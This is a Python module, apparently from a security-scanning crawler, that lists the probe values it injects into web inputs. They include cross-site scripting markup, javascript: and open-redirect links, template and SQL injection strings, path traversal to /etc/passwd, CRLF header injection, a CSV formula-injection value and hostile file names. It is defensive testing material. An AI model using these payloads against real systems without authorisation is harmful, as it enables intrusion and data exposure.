"""What the crawler sends: each tries one way out of the place a value is put into."""

from __future__ import annotations

from dataclasses import dataclass

# An element, an attribute and a header of this name, and this product, come from nobody but the crawler.
ELEMENT, ATTRIBUTE, HEADER = "zqx", "zqa", "Zq-Header"
PRODUCT = "9359"
HOST = "zq.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """One value; `kind` is what it tries."""

    kind: str
    value: str


def _all(kind: str, *values: str) -> list[Payload]:
    return [Payload(kind, value) for value in values]


MARKUP = _all(
    "markup",
    f"<{ELEMENT}>",
    f'"><{ELEMENT} {ATTRIBUTE}=1>',
    f"'><{ELEMENT} {ATTRIBUTE}=1>",
    f'" {ATTRIBUTE}="1',
    f"' {ATTRIBUTE}='1",
    f"zq {ATTRIBUTE}=1",
    f'zq" onfocus="{ATTRIBUTE}()" autofocus="',
    f"</textarea></title></script></style><{ELEMENT}>",
    f"--><{ELEMENT}><!--",
    f"]]><{ELEMENT}>",
    f"&lt;{ELEMENT}&gt;<{ELEMENT} ",
    f"\uff1c{ELEMENT}\uff1e<svg/onload={ATTRIBUTE}()>",
    f"<img src=x onerror={ATTRIBUTE}()>",
    f"<{ELEMENT}\x0b\x0c>",
    f"\\u003c{ELEMENT}\\u003e",
    f'";{ATTRIBUTE}();//',
    f"}}{ELEMENT}{{{ATTRIBUTE}:1}}</style>",
)
LINK = _all(
    "link",
    f"javascript:{ATTRIBUTE}()",
    f" \tJaVa\tScRiPt:{ATTRIBUTE}()",
    f"data:text/html,<{ELEMENT}>",
    f"https://{HOST}/",
    f"//{HOST}/",
    f"/\\{HOST}",
    f"/%09/{HOST}",
    f"\\\\{HOST}\\",
    f"https:{HOST}",
    f"/@{HOST}/%2f..",
)
TEMPLATE = _all(
    "template",
    "zq{{191*49}}zq",
    "zq${191*49}zq",
    "zq<%=191*49%>zq",
    "zq{% print(191*49) %}zq",
    "{0.__class__.__mro__}{zq}%(zq)s%s%n",
)
SQL = _all(
    "sql",
    "zq' OR '1'='1",
    "zq'||(191*49)||'zq",
    "zq'; SELECT 191*49; --",
    'zq" OR ""="',
    "zq%' ESCAPE '\\",
    "zq & | ! ( <-> :* '",
    "%_%\\",
)
PATH = _all(
    "path",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
)
HEADERS = _all(
    "header", f"zq\r\n{HEADER}: zq", f"zq%0d%0a{HEADER}: zq", f"zq\n{HEADER}: zq", f"zq\u560a{HEADER}: zq"
)
TEXT = _all(
    "text",
    "zq\x00zq",
    "\x00",
    "",
    "   ",
    "zq" * 60_000,
    "zq\u202e\u200b\u2066\ufeff",
    "\u0000\u0001\u0008\u001b[31mzq",
    "🧑🏽‍🦽🇮🇩" * 40,
    "Z̷̧̛͎͓q̶" * 60,
    "\ufffd\ud83d".encode("utf-8", "replace").decode(),
    "ﷺ" * 300,
    "\u0130\u0131\u017f\u212azq",
)
NUMBERS = _all(
    "number",
    "9223372036854775808", "2147483648", "-1", "0", "999999999999999999999999999999", "1e999", "NaN", "Infinity",
    "1_000", "٣٤", "²", "0x10", "1.5", "-9223372036854775809", "9" * 5000, "08129999000" + "1" * 300,
)  # fmt: skip
DATES = _all(
    "date",
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-11-24T25:61", "24:00", "25:99",
    "23:59:60", "-1:00", "9999-12-31T23:59",
)  # fmt: skip
TYPES = _all(
    "type", "[]", "{}", "null", "true", '{"a":1}', "zq[0]", "y", "on", "None", "undefined", '[["zq"]]', "⁰"
)

PAYLOADS: tuple[Payload, ...] = (
    *MARKUP, *LINK, *TEMPLATE, *SQL, *PATH, *HEADERS, *TEXT, *NUMBERS, *DATES, *TYPES,
)  # fmt: skip

# Files where a file or a text is due: name, type, content.
FILES: tuple[tuple[str, str, bytes], ...] = (
    (f'"><{ELEMENT} {ATTRIBUTE}=1>.png', "image/png", b"\x89PNG\r\n\x1a\nzq"),
    ("../../../../tmp/zq.svg", "image/svg+xml", f"<svg onload={ATTRIBUTE}()><{ELEMENT}/></svg>".encode()),
    ("zq\x00.html", "text/html", f"<{ELEMENT}>".encode()),
    (f"zq\r\n{HEADER}: zq.pdf", "application/pdf", b"%PDF-1.7 zq"),
    ("", "", b""),
    ("zq.csv", "text/csv", b"\xff\xfe\x00=cmd|zq" * 1000),
)
# A browser's name is shown in lists of devices, an address wherever somebody looks: they bear a payload always.
AGENT = f"Mozilla/5.0 \"><{ELEMENT} {ATTRIBUTE}=1> zq{{{{191*49}}}}zq ' \xff"
